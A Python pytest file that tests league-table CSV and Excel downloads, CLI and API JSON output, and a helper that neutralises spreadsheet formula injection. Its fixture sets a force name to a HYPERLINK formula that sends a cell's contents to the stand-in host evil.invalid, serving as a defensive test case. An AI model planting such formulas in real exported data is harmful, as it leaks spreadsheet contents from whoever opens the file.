"""League-table downloads (CSV, .xlsx), formula-injection safety, and the CLI's JSON against the API's."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from lms.cli import cli
from lms.models import Force
from lms.reports import exports

EVIL = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")'


@pytest.fixture
def evil_force(db):
    """A force whose name looks like a formula, as a hostile or careless admin edit could make it."""
    force = db.session.scalar(select(Force).where(Force.code == "dorset"))
    force.name = EVIL
    db.session.commit()
    return force


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1+1"])
def test_safe_cell_neutralises_formula_starters(value):
    assert exports.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Kent Police", "2026-04-30", "", 5, -5, 12.5, None, "a=b"])
def test_safe_cell_leaves_other_values_alone(value):
    assert exports.safe_cell(value) == value


def test_csv_download_has_as_of_and_deadline_and_is_formula_safe(signed_in, kent, evil_force):
    client, _ = signed_in("national")
    response = client.get("/league-table.csv?as_of=2026-06-30")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert 'filename="oic-league-table-2026-06-30.csv"' in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0] == ["League table as of 2026-06-30", "Deadline 2026-04-30"]
    assert rows[1] == exports.HEADERS
    assert len(rows) == 2 + 43
    assert rows[2][:3] == ["1", "Kent Police", "kent"]
    names = [r[1] for r in rows[2:]]
    assert "'" + EVIL in names and EVIL not in names


def test_xlsx_download_opens_and_holds_no_formula(signed_in, kent, evil_force):
    client, _ = signed_in("regional", region="Eastern")
    response = client.get("/league-table.xlsx")

    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    ws = load_workbook(io.BytesIO(response.data)).active
    assert "as of" in ws["A1"].value and "2026-04-30" in ws["A2"].value
    assert [c.value for c in ws[4]] == exports.HEADERS
    assert ws.max_row == 4 + 43
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
    assert "'" + EVIL in [ws.cell(row=r, column=2).value for r in range(5, ws.max_row + 1)]


def test_bad_as_of_on_a_download_is_400(signed_in, kent):  # noqa: F811
    client, _ = signed_in("national")
    assert client.get("/league-table.csv?as_of=yesterday").status_code == 400
    assert client.get("/league-table.xlsx?as_of=2999-01-01").status_code == 400


def test_cli_json_is_the_api_json(signed_in, runner, kent):  # noqa: F811
    client, _ = signed_in("national")
    for as_of in (None, date(2026, 6, 30)):
        args = ["league-table", "--format", "json"] + (["--as-of", as_of.isoformat()] if as_of else [])
        result = runner.invoke(cli, args)
        assert result.exit_code == 0, result.output
        api = client.get("/api/v1/league-table" + (f"?as_of={as_of.isoformat()}" if as_of else ""))
        assert json.loads(result.output) == api.get_json()


def test_api_force_object_is_its_league_table_entry(signed_in, kent):  # noqa: F811
    client, _ = signed_in("national")
    table = client.get("/api/v1/league-table").get_json()
    kent_entry = next(f for f in table["forces"] if f["code"] == "kent")
    assert client.get("/api/v1/forces/kent").get_json() == kent_entry
    # Today is after the deadline and everyone was on Kent's first roster: the three not complete are overdue.
    assert kent_entry["overall"] == {"relevant": 5, "complete": 2, "percent": 40.0, "overdue": 3, "not_yet_due": 0}
    assert set(kent_entry) == {"code", "name", "region", "rank", "elearning", "hydra", "overall", "modules",
                               "unmatched_records", "last_upload", "status"}
    assert kent_entry["status"].startswith("Far behind")  # 40% overall: the band's words, as the pages say them


def test_text_format_lists_every_force(kent, app):  # noqa: F811
    from lms.reports import figures

    text = exports.to_text(figures.league_table())
    assert text.count("\n") == 3 + 43
    assert "Kent Police" in text.splitlines()[3]
